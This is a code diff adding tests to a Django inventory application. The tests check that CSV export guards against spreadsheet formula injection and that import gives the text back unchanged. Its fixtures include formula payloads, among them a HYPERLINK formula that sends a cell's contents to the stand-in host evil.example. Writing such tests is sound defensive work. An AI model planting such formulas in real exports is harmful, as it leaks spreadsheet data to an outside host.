@@ -14,6 +14,7 @@ from inventory.export import CSV_COLUMNS
 from inventory.models import EntryFacetValue, InventoryEntry
 from inventory.regions import regions_for
 from inventory.synthetic import create_entries
+from tests.spreadsheets import assert_no_formula
 
 from .conftest import InventoryEntryFactory
 
@@ -619,3 +620,57 @@ def test_export_guards_against_spreadsheet_formulas_and_import_undoes_it(
     assert imported.title == entry.title
     assert imported.summary == entry.summary
     assert imported.keywords == "@mention, plain"
+
+
+def test_export_guards_formulas_behind_separators_and_import_gives_text_back(
+    client, tmp_path, tree
+):
+    """Excel in French, Spanish or Russian splits lines on ";": a formula behind
+    one (or behind ",", a tab or a line break, spaces or a double quote) is
+    guarded too, and a text that already starts with "'=" comes back as it was."""
+    partner = StakeholderOrganisation.objects.create(
+        name='Partners, "=HYPERLINK(""http://evil.example"")"',
+        stakeholder_type="civil-society",
+    )
+    organisation = StakeholderOrganisation.objects.create(
+        name="'=not a formula", stakeholder_type="government"
+    )
+    entry = InventoryEntryFactory(
+        title='Schools;=HYPERLINK("http://evil.example/?d="&B1,"Open")',
+        summary="Results:\r\n- 300 trained\n\t+ 20 trainers, @mention;  =1+1",
+        keywords="plain, -negative",
+        organisation=organisation,
+        partners=[partner],
+        title_fr="'-déjà protégé",
+    )
+    (row,), text = export_rows(client)
+    assert_no_formula(text)
+    assert row["title"] == 'Schools;\'=HYPERLINK("http://evil.example/?d="&B1,"Open")'
+    assert row["organisation"] == "''=not a formula"
+    path = tmp_path / "export.csv"
+    path.write_text(text, encoding="utf-8")
+    InventoryEntry.objects.filter(pk=entry.pk).delete()
+    run_import(path, "--publish")
+    imported = InventoryEntry.objects.get(reference=entry.reference)
+    assert imported.title == entry.title
+    assert imported.summary == entry.summary
+    assert imported.keywords == "plain, -negative"
+    assert imported.title_fr == entry.title_fr
+    assert imported.organisation.name == organisation.name
+    assert [p.name for p in imported.partners.all()] == [partner.name]
+
+
+def test_a_json_file_keeps_apostrophes_as_written(tmp_path, db):
+    """The API's JSON carries no guard: nothing is taken off its text."""
+    path = tmp_path / "entries.json"
+    row = {
+        **GOOD_ROW,
+        "title": "'=kept",
+        "summary": "x;'-kept too",
+        "action_lines": ["C2"],
+        "countries": ["NPL"],
+    }
+    path.write_text(json.dumps({"results": [row]}), encoding="utf-8")
+    run_import(path, "--publish")
+    entry = InventoryEntry.objects.get()
+    assert (entry.title, entry.summary) == ("'=kept", "x;'-kept too")
